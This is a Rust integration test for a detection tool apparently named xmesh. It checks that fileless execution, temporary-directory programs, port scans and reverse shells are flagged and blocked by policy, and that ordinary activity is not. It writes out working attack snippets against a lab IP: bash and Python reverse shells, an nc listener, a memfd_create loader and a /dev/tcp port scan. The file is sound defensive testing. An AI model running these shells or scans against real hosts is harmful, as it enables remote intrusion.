// SPDX-License-Identifier: GPL-3.0-only
//! Attacks by real programs are named, and answered as the policy says; ordinary work is not.

use std::time::Duration;

use crate::support::{Mesh, Outcome};
use serde_json::Value;

/// What a threat is known by in `xmesh threats`.
fn found(mesh: &Mesh, rule: &str) -> Result<Vec<Value>, Box<dyn std::error::Error>> {
    // Its exit status says whether there are alerts.
    let output = mesh.0.exec("dom0", &["xmesh", "--json", "threats", "web1"])?;
    let list: Value = serde_json::from_slice(&output.stdout)?;
    let all = list["threats"].as_array().cloned().unwrap_or_default();
    Ok(all.into_iter().filter(|threat| threat["rule"] == rule).collect())
}

fn is_found(mesh: &Mesh, rule: &str, exe: &str) -> Outcome {
    mesh.wait(&format!("{rule} by {exe} is found"), |mesh| {
        Ok(found(mesh, rule)?
            .iter()
            .any(|threat| threat["process"]["exe"] == exe))
    })
}

fn run(mesh: &Mesh, script: &str) -> Result<bool, Box<dyn std::error::Error>> {
    let output = mesh
        .0
        .exec_timeout("web1", &["bash", "-c", script], Duration::from_secs(120))?;
    Ok(output.success())
}

fn events(mesh: &Mesh, kind: &str) -> Result<Vec<Value>, Box<dyn std::error::Error>> {
    let argv = ["xmesh", "--json", "events", "--domain", "web1", "--kind", kind];
    let text = mesh.0.check("dom0", &argv)?;
    Ok(text
        .lines()
        .filter_map(|line| serde_json::from_str(line).ok())
        .collect())
}

/// What ordinary machines do all day.
const ORDINARY: &str = "
    for n in 1 2 3; do curl -s -o /dev/null http://10.0.0.12/; done
    echo hello | sh -c 'cat | tr a-z A-Z' > /dev/null
    su app -c 'id; sh -c true'
    find /etc -name '*.conf' | xargs grep -l root | sort | head -n 3
    python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", \"true\"])'
    timeout 1 bash -c 'exec 3<>/dev/tcp/10.0.0.12/80; printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3; head -n 1 <&3'
    true";

/// Runs from memory: the file has no name in any directory.
const FROM_MEMORY: &str = "import os
fd = os.memfd_create('x')
os.write(fd, open('/usr/bin/true', 'rb').read())
os.execve(fd, ['x'], os.environ)";

/// A shell of another program's connection. Its peer says nothing, so that it waits.
const SHELL: &str = "import os, socket, subprocess
s = socket.create_connection(('10.0.0.12', 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.call(['/bin/sh', '-c', 'read line; exit 7'])";

#[test]
#[ignore = "needs a rig: cargo xtask test"]
fn attacks_are_named_and_answered_and_ordinary_work_is_not() -> Outcome {
    let mesh = Mesh::up()?;
    // What other tests did to this guest was told before.
    let before = events(&mesh, "threat")?
        .iter()
        .filter_map(|event| event["seq"].as_u64())
        .max();
    assert!(run(&mesh, ORDINARY)?);
    // Beyond what looks at it again: the latest is a good half second after a connect.
    std::thread::sleep(Duration::from_secs(5));
    let threats = events(&mesh, "threat")?;
    let loud: Vec<&Value> = threats
        .iter()
        .filter(|event| event["seq"].as_u64() > before && event["threat"]["severity"] == "alert")
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");

    run(&mesh, &format!("python3 -c \"{FROM_MEMORY}\""))?;
    let memory = |mesh: &Mesh| Ok(!found(mesh, "fileless-program")?.is_empty());
    mesh.wait("a program from memory is found", memory)?;
    run(&mesh, "cp /usr/bin/true /tmp/true; /tmp/true; rm /tmp/true")?;
    is_found(&mesh, "temporary-program", "/tmp/true")?;
    run(
        &mesh,
        "for p in $(seq 30); do (echo > /dev/tcp/10.0.0.12/$p) 2> /dev/null; done; true",
    )?;
    is_found(&mesh, "port-scan", "/usr/bin/bash")?;

    // Seen and cut: what the program opened ends, by an ordinary policy.
    let listen = "timeout 300 nc -lk -p 4444 > /dev/null 2>&1 < /dev/null & sleep 1";
    mesh.0.check("db1", &["sh", "-c", listen])?;
    let answers = "policy: answers\nanswers: { web1: { reverse-shell: deny } }\n";
    let applied = mesh.apply_text(answers)?;
    assert!(applied.success(), "{applied:?}");
    let begun = "bash -c 'exec <> /dev/tcp/10.0.0.12/4444 >&0; read line; exit 7'";
    let cut = mesh.0.exec_timeout(
        "web1",
        &["timeout", "60", "bash", "-c", begun],
        Duration::from_secs(90),
    )?;
    assert_ne!(cut.status, 124, "its connection was not ended: {cut:?}");
    is_found(&mesh, "reverse-shell", "/usr/bin/bash")?;
    let threat = found(&mesh, "reverse-shell")?.remove(0);
    let set = threat["answer"]
        .as_str()
        .and_then(|answer| answer.split("policy ").nth(1));
    let set = set.and_then(|rest| rest.split(' ').next()).ok_or("no answer")?;
    let since = |kind: &str, is: &dyn Fn(&Value) -> bool| -> Result<u64, Box<dyn std::error::Error>> {
        let event = events(&mesh, kind)?.into_iter().rfind(is).ok_or("no event")?;
        event["time_ns"].as_u64().ok_or_else(|| "no time".into())
    };
    let connected = since("connect", &|event| event["remote"] == "10.0.0.12:4444")?;
    let told = since("threat", &|event| event["threat"]["rule"] == "reverse-shell")?;
    println!(
        "told and cut {} ms after the connect",
        (told - connected) / 1_000_000
    );
    assert!(
        !run(&mesh, "echo > /dev/tcp/10.0.0.12/80")?,
        "bash in web1 opens nothing more"
    );
    assert!(run(&mesh, "curl -s -o /dev/null http://10.0.0.12/")?, "others do");
    for policy in [set, "answers"] {
        mesh.0.check("dom0", &["xmesh", "policy-delete", policy])?;
    }

    // A shell that is a child of who connected.
    run(&mesh, &format!("timeout 20 python3 -c \"{SHELL}\""))?;
    is_found(&mesh, "reverse-shell", "/usr/bin/dash")?;

    // Who is caught goes on against a decoy: nobody serves there in dom0, and db1 answers.
    let answers = "policy: answers\nanswers: { web1: { temporary-program: { decoy: db1 } } }\n";
    let applied = mesh.apply_text(answers)?;
    assert!(applied.success(), "{applied:?}");
    let ask = "curl -s -o /dev/null -m 60 http://10.0.0.1/";
    assert!(!run(&mesh, ask)?, "nobody serves in dom0");
    run(
        &mesh,
        &format!(
            "cp /usr/bin/curl /tmp/lured; /tmp/{}",
            ask.replace("curl", "lured")
        ),
    )?;
    is_found(&mesh, "temporary-program", "/tmp/lured")?;
    mesh.wait("it reaches the decoy", |mesh| {
        run(mesh, &format!("/tmp/{}", ask.replace("curl", "lured")))
    })?;
    assert!(!run(&mesh, ask)?, "others do not");
    let threat = found(&mesh, "temporary-program")?;
    let threat = threat
        .iter()
        .find(|threat| threat["process"]["exe"] == "/tmp/lured");
    let answer = threat
        .and_then(|threat| threat["answer"].as_str())
        .unwrap_or_default();
    let set = answer
        .split("policy ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next());
    for policy in [set.ok_or("no answer")?, "answers"] {
        mesh.0.check("dom0", &["xmesh", "policy-delete", policy])?;
    }
    mesh.0.check("web1", &["rm", "/tmp/lured"])?;
    Ok(())
}
